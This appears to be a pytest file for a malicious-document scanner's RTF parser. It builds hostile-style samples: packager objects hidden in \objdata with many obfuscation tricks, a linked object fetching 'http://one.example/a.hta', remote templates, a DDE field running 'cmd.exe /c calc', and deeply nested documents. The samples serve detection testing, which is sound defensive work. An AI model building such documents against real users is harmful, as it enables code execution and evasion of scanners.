r"""RTF: what Word finds between ``\objdata``'s digits, whatever is put among them; templates and fields."""

from __future__ import annotations

import random
import struct
from typing import TYPE_CHECKING, Final

import pytest

from noroshi.examine.budget import Budget, Limits
from noroshi.examine.model import Effect
from noroshi.examine.rtf import read_rtf
from tests.examine import documents

if TYPE_CHECKING:
    from noroshi.examine.result import Examination
    from tests.examine.conftest import Examine

CONTENT: Final = b"MZ benign content, twenty bytes and a few more"


def codes(examination: Examination) -> set[str]:
    """The codes of all findings."""
    return {finding.code for _, finding in examination.findings()}


def texts(*each: str) -> bytes:
    """Length-prefixed texts of OLE 1.0."""
    return b"".join(
        struct.pack("<I", len(one) + 1) + one.encode("cp932") + b"\0" if one else bytes(4) for one in each
    )


def package(name: str, content: bytes) -> bytes:
    """An OLE 1.0 object of the packager ([MS-OLEDS] 2.2.5, 2.3.6)."""
    path = f"C:\\Users\\a\\{name}".encode("cp932") + b"\0"
    native = b"\x02\0" + name.encode("cp932") + b"\0" + path + b"\0\0\x03\0"
    native += struct.pack("<I", len(path)) + path + struct.pack("<I", len(content)) + content
    return struct.pack("<II", 0x501, 2) + texts("Package", "", "") + struct.pack("<I", len(native)) + native


def embedded(name: str, content: bytes) -> bytes:
    """An OLE 1.0 object of another class."""
    return struct.pack("<II", 0x501, 2) + texts(name, "", "") + struct.pack("<I", len(content)) + content


def rtf(data: str, head: str = "", control: str = "\\objemb") -> bytes:
    """A document with one object."""
    return ("{\\rtf1\\ansi " + head + "{\\object" + control + "{\\*\\objdata " + data + "}}}").encode(
        "latin-1"
    )


DIGITS: Final = package("a.exe", CONTENT).hex()


def spread(data: str, *between: str) -> str:
    """The digits with something between each few."""
    chance = random.Random(7)  # noqa: S311 - a repeatable test
    return "".join(data[at : at + 3] + chance.choice(between) for at in range(0, len(data), 3))


OBFUSCATED: Final = {
    "plain": DIGITS,
    "upper": DIGITS.upper(),
    "white-space": spread(DIGITS, " ", "\t", "\r\n", "\n", ""),
    "groups": spread(DIGITS, "{}", "{ }", "{{}}", ""),
    "control-words": spread(DIGITS, "\\par ", "\\b0 ", "\\zqzq12 ", "\\tab "),
    "unknown-groups": spread(DIGITS, "{\\*\\zqzq abc123}", "{\\*\\qq{deep 99}}", ""),
    "in-nested-groups": "{" + DIGITS[:40] + "{" + DIGITS[40:80] + "}" + "}" + DIGITS[80:],
    "not-hexadecimal": spread(DIGITS, "g", "zz", "-", "?"),
    "binary": DIGITS[:32] + "\\bin8 " + bytes.fromhex(DIGITS[32:48]).decode("latin-1") + DIGITS[48:],
    "binary-of-nothing": spread(DIGITS, "\\bin0 ", "\\bin00000000000000000 ", ""),
    "coded-noise-passed": spread(DIGITS, "\\'4f", "\\'00", ""),
    "coded-after-an-odd-digit": DIGITS[:20] + "a\\'41" + DIGITS[20:],
    "odd-number-of-digits": DIGITS + "a",
    "wrong-version": "ffffffff" + DIGITS[8:],
}  # fmt: skip


@pytest.mark.parametrize("name", OBFUSCATED)
def test_the_file_in_an_obfuscated_object_is_found(examined: Examine, name: str) -> None:
    """A packager's file with its name and its bytes."""
    result = examined(rtf(OBFUSCATED[name]), "a.doc")
    files = [node for node in result.nodes if node.via == "embedded file"]
    assert ["a.exe"] == [node.name for node in files]
    assert [len(CONTENT)] == [node.size for node in files]
    assert "rtf" == result.nodes[0].type


@pytest.mark.parametrize("head", ["{\\rt", "{\\rtf", "{\\rtf1", "{\\rtfzq99", " \r\n{\\rtf1"])
def test_a_damaged_head_is_known(examined: Examine, head: str) -> None:
    """Word asks for no more than this."""
    raw = (head + " {\\object{\\*\\objdata " + DIGITS + "}}}").encode()
    assert "a.exe" in [node.name for node in examined(raw, "a.txt").nodes]


@pytest.mark.parametrize("name", ["Equation.3", "Equation.2"])
def test_the_equation_editor_is_told(examined: Examine, name: str) -> None:
    """By the object's own class, and by the class identifier of a compound file."""
    assert "equation-editor" in codes(examined(rtf(embedded(name, b"\x1c\0junk").hex()), "a.rtf"))
    raw = bytearray(documents.compound({"Equation Native": bytes(100)}))
    assert "equation-editor" in codes(examined(rtf(embedded("x", bytes(raw)).hex()), "a.rtf"))


def test_the_class_that_the_document_names(examined: Examine) -> None:
    r"""``\objclass`` where the object has none."""
    raw = b"{\\rtf1{\\object\\objupdate{\\*\\objclass Equa{}tion\\'2e3}{\\*\\objdata 0102}}}"
    result = examined(raw, "a.rtf")
    assert {"equation-editor", "object-updates"} <= codes(result)


def test_a_linked_object_is_loaded_from_outside(examined: Examine) -> None:
    """A link of OLE 1.0."""
    link = struct.pack("<II", 0x501, 1) + texts("htmlfile", "http://one.example/a.hta", "") + bytes(12)
    result = examined(rtf(link.hex(), control="\\objautlink"), "a.rtf")
    found = [one.values["target"] for _, one in result.findings() if one.code == "loads-from-outside"]
    assert ["http://one.example/a.hta"] == found
    assert "object-updates" in codes(result)


def test_the_address_of_a_linked_compound_file(examined: Examine) -> None:
    r"""A URL moniker in the stream ``\x01Ole``."""
    url = "http://one.example/a.hta".encode("utf-16-le")
    moniker = (
        bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<I", len(url) + 2) + url + b"\0\0"
    )
    inner = documents.compound({"\x01Ole": b"\x01\0\0\x02\x09\0\0\0\x01\0\0\0" + bytes(12) + moniker})
    result = examined(rtf(embedded("OLE2Link", inner).hex(), control="\\objupdate"), "a.rtf")
    told = [one for each in result.told.values() for one in each if isinstance(one, Effect)]
    assert ["http://one.example/a.hta"] == [one.arguments.get("url") for one in told]


@pytest.mark.parametrize(
    "written",
    [
        "http://one.example/t",
        "ht{}tp://one{\\b0 }.example/t",
        "\\u104?\\'74tp://one.example/t",
        "{http://}one.example/t",
    ],
)
def test_a_template_from_outside(examined: Examine, written: str) -> None:
    r"""``{\*\template …}``, however its letters are written."""
    result = examined(("{\\rtf1{\\*\\template " + written + "}x}").encode(), "a.rtf")
    found = [one.values["target"] for _, one in result.findings() if one.code == "loads-from-outside"]
    assert ["http://one.example/t"] == found


def test_dde_in_a_field(examined: Examine) -> None:
    r"""``\fldinst``."""
    raw = b'{\\rtf1{\\field{\\*\\fldinst {DDEA}{\\b UTO} cmd.exe "/c calc"}{\\fldrslt x}}}'
    told = [one for one in examined(raw, "a.rtf").told[0] if isinstance(one, Effect)]
    assert ["cmd.exe /c calc"] == [one.arguments["command"] for one in told]


def test_the_text_is_read_without_its_tables() -> None:
    """Fonts and styles are no text; escaped signs and Unicode are."""
    raw = (
        b"{\\rtf1{\\fonttbl{\\f0 Arial;}}{\\*\\generator W;}A\\{b\\}\\par\\u35531 ?\\'e9{\\info{\\author x}}}"
    )
    assert "A{b}\n請é" == read_rtf(raw, Budget()).text


def test_many_tokens_end_at_the_bound() -> None:
    """What was read so far stands."""
    document = read_rtf(b"{\\rtf1 abc" + b"{}" * 500_000, Budget(Limits(steps=10_000)))
    assert not document.complete
    assert "abc" == document.text


@pytest.mark.parametrize(
    ("raw", "what"),
    [
        (b"{\\rtf1" + b"{" * 100_000 + b"}" * 100_001, "nested too deeply"),
        (b"{\\rtf1" + b"{\\object" * 5_000, "an object holds no data"),
    ],
)
def test_hostile_documents_are_told(examined: Examine, raw: bytes, what: str) -> None:
    """One finding, though nothing was found in it."""
    assert [("damaged", what)] == [(one.code, one.values["what"]) for one in examined(raw, "a.rtf").of(0)[1]]


def test_deep_nesting_is_read(examined: Examine) -> None:
    """A hundred thousand groups inside each other, and an object behind them."""
    raw = b"{\\rtf1" + b"{" * 100_000 + b"}" * 100_000 + rtf(DIGITS)[6:]
    assert "a.exe" in [node.name for node in examined(raw, "a.rtf").nodes]
